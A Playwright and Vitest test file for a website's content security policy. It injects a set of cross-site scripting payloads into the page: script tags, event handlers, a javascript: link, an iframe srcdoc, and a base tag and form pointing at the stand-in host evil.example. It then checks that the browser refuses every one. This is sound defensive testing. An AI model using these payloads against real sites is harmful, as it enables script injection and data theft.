import type { Browser, Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startChromium, watchedPage } from './browser.ts';
import { START_MS } from './each-server.ts';
import { type Served, startOwn } from './servers.ts';

let browser: Browser;
let served: Served;
beforeAll(async () => {
  [browser, served] = await Promise.all([startChromium(), startOwn()]);
}, START_MS);
afterAll(async () => {
  await browser?.close();
  await served?.stop();
});

/** Waits until every island is hydrated: each is when it comes near. */
async function hydrateEverything(page: Page): Promise<void> {
  await page.waitForLoadState('load');
  for (const island of await page.locator('astro-island').all()) {
    const isHydrated = async () => {
      await island.evaluate((element) =>
        (element.firstElementChild ?? element).scrollIntoView({ behavior: 'instant' }),
      );
      return (await island.getAttribute('ssr')) === null;
    };
    await expect
      .poll(isHydrated, { timeout: 15_000, message: `${await island.getAttribute('component-url')} hydrates` })
      .toBe(true);
  }
}

/** Presses every button, opens every fold, types into every field, chooses in every list, and hovers over every icon. */
async function useEverything(page: Page): Promise<void> {
  const quick = { timeout: 1_000, noWaitAfter: true };
  for (const fold of await page.locator('summary:visible').all()) await fold.click(quick).catch(() => {});
  for (const field of await page.locator('input:visible, textarea:visible').all())
    await field.fill('1', quick).catch(() => {});
  for (const list of await page.locator('select:visible').all())
    await list.selectOption({ index: 1 }, quick).catch(() => {});
  const before = await page.getByRole('button').count();
  for (let index = 0; index < before + 6; index++) {
    const button = page.getByRole('button').nth(index);
    if (!(await button.isVisible().catch(() => false))) continue;
    await button.hover(quick).catch(() => {});
    await button.click(quick).catch(() => {});
    await page.keyboard.press('Escape');
  }
}

describe('the content security policy', () => {
  it.for(['/', '/politica-privacidade', '/nao-existe'])(
    'refuses nothing that %s needs, in any state',
    { timeout: 90_000 },
    async (path) => {
      const [page, refused] = await watchedPage(browser);
      page.context().on('page', (other) => void (other === page ? undefined : other.close().catch(() => {})));
      await page.goto(served.origin + path);
      await hydrateEverything(page);
      await page.locator('[data-cookie-banner]').waitFor();
      await useEverything(page);
      await page.emulateMedia({ media: 'print' });
      expect(refused).toEqual([]);
      await page.context().close();
    },
  );

  const INJECTED = `<script>window.injected = 'script'</script>
    <script src="data:text/javascript,window.injected='data'"></script>
    <script type="module">window.injected = 'module'</script>
    <img src="/nao-existe.png" onerror="window.injected = 'handler'">
    <svg onload="window.injected = 'svg'"></svg>
    <iframe srcdoc="<script>parent.injected = 'frame'</script>"></iframe>
    <a id="link" href="javascript:window.injected='link'">x</a>
    <base href="https://evil.example/">
    <form id="form" action="https://evil.example/"><input name="nome" value="x"></form>
    <style>body { --injected: yes }</style>
    <object data="data:text/html,<script>parent.injected='object'</script>"></object>`;

  it.for(['header and meta', 'meta alone'])('refuses what someone slipped into the page, by its %s', async (way) => {
    const [page, refused] = await watchedPage(browser);
    await page.route(`${served.origin}/`, async (route) => {
      const answer = await route.fetch();
      const headers = answer.headers();
      if (way === 'meta alone') delete headers['content-security-policy'];
      await route.fulfill({
        response: answer,
        headers,
        body: (await answer.text()).replace('</main>', `${INJECTED}</main>`),
      });
    });
    await page.goto(`${served.origin}/`);
    await hydrateEverything(page);
    await page.evaluate(() => document.getElementById('link')?.click());
    await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')?.submit());
    await expect.poll(() => refused.join('\n'), { timeout: 15_000 }).toMatch(/form-action/);
    expect(await page.evaluate('window.injected')).toBeUndefined();
    expect(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--injected'))).toBe('');
    expect(new URL(page.url()).origin).toBe(served.origin);
    for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'base-uri', 'form-action']) {
      expect(refused.join('\n')).toContain(directive);
    }
    await page.context().close();
  });

  it('refuses text where a script of ours would make HTML, code or a script’s address of it', async () => {
    const [page] = await watchedPage(browser);
    await page.goto(`${served.origin}/`);
    for (const attempt of [
      `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injected=1">')`,
      `document.createElement('script').text = 'window.injected=1'`,
      `document.createElement('script').src = '/a.js'`,
      `setTimeout('window.injected=1')`,
      `trustedTypes.createPolicy('mine', {})`,
    ]) {
      await expect(page.evaluate(attempt), attempt).rejects.toThrow();
    }
    expect(await page.evaluate('window.injected')).toBeUndefined();
    await page.context().close();
  });

  it('lets nobody show the site in a frame, not even itself', async () => {
    const [page] = await watchedPage(browser);
    const body = `<iframe src="${served.origin}/"></iframe>`;
    await page.route(`${served.origin}/moldura`, (route) => route.fulfill({ contentType: 'text/html', body }));
    const failed = page.waitForEvent('requestfailed');
    await page.goto(`${served.origin}/moldura`);
    expect((await failed).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
    expect(
      await page
        .frameLocator('iframe')
        .getByRole('heading', { level: 1, name: /farmácia/i })
        .count(),
    ).toBe(0);
    await page.context().close();
  });
});
